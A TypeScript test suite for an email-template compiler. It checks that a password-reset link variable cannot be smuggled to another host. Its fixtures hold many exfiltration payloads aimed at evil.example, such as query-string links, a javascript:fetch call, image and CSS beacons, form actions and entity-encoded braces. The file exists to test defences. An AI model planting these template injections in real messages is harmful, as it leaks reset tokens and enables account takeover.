import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compileTemplate, type TemplateSource } from './compileTemplate.ts';
import { renderTemplate } from './renderTemplate.ts';
import { MisplacedOpeningError, TemplateError } from './placeholders.ts';

const secret = 'https://clairvolet.example/reset-password?token=secret-canari';

const source = {
  key: 'password_reset',
  subject: 'Bonjour',
  content: '<p>Bonjour</p>',
  variables: [{ name: 'reset_url', opens: true }, { name: 'expires_in' }],
} as const satisfies TemplateSource;

const compile = async (written: Partial<Pick<TemplateSource, 'subject' | 'content'>>) =>
  compileTemplate({ ...source, ...written });

const values = {
  reset_url: secret,
  expires_in: '1 heure',
  user_name: 'Maïté',
  site_name: 'Clairvolet',
  site_url: 'https://clairvolet.example',
  contact_email: '',
  postal_address: '',
};

describe('a variable that gives access', () => {
  it.each([
    ['as the address of a link', '<p><a href="{{reset_url}}">Choisir</a></p>'],
    ['as the address of a button', '<p><a class="button" href="{{ reset_url }}">Choisir</a></p>'],
    ['as text', '<p>Ou copiez cette adresse&nbsp;: {{reset_url}}</p>'],
    ['as text after a no-break space', '<p>Votre lien :&nbsp;{{reset_url}}.</p>'],
    ['between brackets', '<p>Votre lien ({{reset_url}}), valable {{expires_in}}.</p>'],
    ['as the text of the link that leads to it', '<p><a href="{{reset_url}}">{{reset_url}}</a></p>'],
    ['in a cell', '<table><tr><th>Lien</th><td>{{reset_url}}</td></tr></table>'],
    ['in a list', '<ul><li>{{reset_url}}</li></ul>'],
    ['at the start of a line', '<p>Votre lien<br>{{reset_url}}<br>à bientôt</p>'],
  ])('may stand %s', async (_where, content) => {
    const mail = renderTemplate(await compile({ content }), values);
    expect(mail.html).toContain('secret-canari');
    expect(mail.text).toContain('secret-canari');
  });

  it.each([
    ['a larger address', '<p><a href="https://evil.example/?x={{reset_url}}">Choisir</a></p>'],
    ['a larger address in capitals', '<p><A HREF="HTTPS://EVIL.EXAMPLE/?X={{reset_url}}">Choisir</A></p>'],
    ['a larger address without quotes', '<p><a href=https://evil.example/?x={{reset_url}}>Choisir</a></p>'],
    ['a larger address, with spaces inside', '<p><a href=" https://evil.example/?x={{ reset_url }} ">Choisir</a></p>'],
    ['the path of another host', '<p><a href="https://evil.example/{{reset_url}}">Choisir</a></p>'],
    ['what follows itself', '<p><a href="{{reset_url}}?{{reset_url}}">Choisir</a></p>'],
    ['what follows another variable', '<p><a href="{{site_url}}/?x={{reset_url}}">Choisir</a></p>'],
    ['a mail to somebody', '<p><a href="mailto:a@evil.example?body={{reset_url}}">Choisir</a></p>'],
    ['a telephone number', '<p><a href="tel:{{reset_url}}">Choisir</a></p>'],
    [
      'an address written with entities',
      '<p><a href="&#104;ttps://evil.example/?x=&#123;&#123;reset_url&#125;&#125;">Choisir</a></p>',
    ],
    ['an address that mail programs would make a link', '<p>https://evil.example/?x={{reset_url}}</p>'],
    ['an address without a scheme', '<p>www.evil.example/{{reset_url}}</p>'],
    ['an address in another element', '<p>https://evil.example/?x=<strong>{{reset_url}}</strong></p>'],
    ['an address in an element that is left out', '<p>https://evil.example/?x=<span>{{reset_url}}</span></p>'],
    ['an address behind what nobody sees', '<p>https://evil.example/?x=&#8203;{{reset_url}}</p>'],
    ['an address behind a no-break space', '<p>https://evil.example/?x=&nbsp;{{reset_url}}</p>'],
    ['an address far behind no-break spaces', `<p>https://evil.example/?x=${'&nbsp;'.repeat(300)}{{reset_url}}</p>`],
    ['an address before its own link', '<p>https://evil.example/?x=<a href="{{reset_url}}">{{reset_url}}</a></p>'],
    ['what a word ends in', '<p>{{reset_url}}@evil.example</p>'],
    ['braces put together by leaving out a tag', '<p>https://evil.example/?x={<span>{reset_url}</span>}</p>'],
    ['a link that leads elsewhere', '<p><a href="https://evil.example/">{{reset_url}}</a></p>'],
    ['a link elsewhere, deeper', '<p><a href="https://evil.example/"><em>{{reset_url}}</em></a></p>'],
  ])('may not stand in %s', async (_what, content) => {
    await expect(compile({ content })).rejects.toThrow(
      expect.objectContaining({ name: MisplacedOpeningError.name, field: 'content' }),
    );
  });

  it('has no place in the subject, where every relay and notification shows it', async () => {
    await expect(compile({ subject: 'Votre lien {{reset_url}}' })).rejects.toThrow(
      'La variable {{reset_url}} ouvre un accès\u00a0: elle n’a pas sa place dans l’objet.',
    );
  });

  it.each([
    ['a relative address of another host', '<p><a href="//evil.example/?x={{reset_url}}">Choisir</a></p>'],
    ['a script', '<p><a href="javascript:fetch(`//evil.example/{{reset_url}}`)">Choisir</a></p>'],
    ['an image', '<p><img src="https://evil.example/?x={{reset_url}}">Choisir</p>'],
    ['a style', '<p style="background:url(https://evil.example/?x={{reset_url}})">Choisir</p>'],
    ['a comment', '<p>Choisir<!-- https://evil.example/?x={{reset_url}} --></p>'],
    ['a form', '<form action="https://evil.example/?x={{reset_url}}"><p>Choisir</p></form>'],
  ])('in %s is removed with it', async (_what, content) => {
    const mail = renderTemplate(await compile({ content }), values);
    expect(mail.html + mail.text).not.toMatch(/secret-canari|evil\.example/);
  });

  it.each([
    ['more braces', '<p>{{{{reset_url}}}}</p>'],
    ['three braces', '<p>{{{reset_url}}}</p>'],
    ['a brace too many inside', '<p>{{ {reset_url} }}</p>'],
    ['entities for a variable that there is not', '<p>&#123;&#123;password&#125;&#125;</p>'],
    ['entities for a section', '<p>&#x7b;{#reset_url}}x{{/reset_url&#x7d;}</p>'],
    ['a variable of another template', '<p>{{confirmation_url}}</p>'],
    ['two variables made one by a tag left out', '<p>{<span>{confirmation_url}</span>}</p>'],
  ])('cannot be reached through %s', async (_what, content) => {
    await expect(compile({ content })).rejects.toThrow(TemplateError);
  });

  it('is sent to no other host, whatever an author writes', async () => {
    const piece = fc.constantFrom(
      '{{reset_url}}',
      '{{ reset_url }}',
      '&#123;{reset_url}}',
      'https://evil.example/?x=',
      '//evil.example/',
      'www.evil.example/',
      '<a href="',
      '<a href=',
      '">',
      '>',
      '</a>',
      '<p>',
      '</p>',
      '<br>',
      '<strong>',
      '<span>',
      '</span>',
      ' ',
      '&nbsp;',
      '{',
      '}',
      'mailto:',
      '{{site_url}}',
      '?',
    );
    let compiled = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { minLength: 2, maxLength: 9 }), async (pieces) => {
        const template = await compile({ content: pieces.join('') }).catch((error: unknown) => {
          if (!(error instanceof TemplateError)) throw error;
          return null;
        });
        if (!template) return;
        compiled += 1;
        const mail = renderTemplate(template, values);
        // What a mail program takes for one address: up to the next blank.
        const addresses = [...mail.html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href);
        const shown = mail.html.replaceAll(/<\/?(?:a|strong|em|small)\b[^>]*>/g, '').replaceAll(/<[^>]*>/g, '\n');
        const words = [shown, mail.text].flatMap((part) => part.split(/[ \t\r\n]+/));
        for (const address of [...addresses, ...words]) {
          if (/evil/.test(address)) expect(decodeURIComponent(address)).not.toContain('secret-canari');
        }
      }),
      { numRuns: 400 },
    );
    expect(compiled).toBeGreaterThan(20);
  });
});
